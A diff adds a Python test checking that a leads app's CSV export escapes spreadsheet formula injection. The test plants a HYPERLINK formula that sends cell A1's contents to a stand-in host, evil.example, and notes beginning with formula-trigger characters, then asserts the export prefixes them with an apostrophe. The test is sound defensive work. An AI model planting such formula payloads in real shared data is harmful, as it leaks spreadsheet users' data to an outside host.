@@ -186,3 +186,28 @@ def test_import_form_page(client: TestClient) -> None:
     page = client.get("/leads/import")
     assert page.status_code == 200
     assert 'enctype="multipart/form-data"' in page.text
+
+
+def test_csv_export_marks_formula_cells_as_text(
+    client: TestClient, ledger: Ledger, auth: dict[str, str]
+) -> None:
+    # One teammate's note, set through the API, reaches everyone's spreadsheet.
+    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    patched = client.patch("/api/v1/prospects/glow.skin", json={"notes": hyperlink}, headers=auth)
+    assert patched.status_code == 200
+    from dmledger.domain.records import Prospect
+
+    leads = {"=": "eq.lead", "+": "plus.lead", "-": "minus.lead", "@": "at.lead"}
+    leads |= {"\t": "tab.lead", "\r": "cr.lead"}
+    with ledger.local.transaction() as conn:  # as a pull writes them: unvalidated
+        for lead, handle in leads.items():
+            ledger.local.put_prospect(conn, Prospect(handle, "new", notes=f"{lead}1+1"))
+    response = client.get("/leads/export.csv")
+    assert response.status_code == 200
+    rows = list(csv.reader(io.StringIO(response.text, newline="")))
+    for row in rows:
+        for cell in row:
+            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
+    notes = {row[0]: row[6] for row in rows[1:]}
+    assert notes["glow.skin"] == "'" + hyperlink
+    assert {notes[handle] for handle in leads.values()} == {f"'{lead}1+1" for lead in leads}
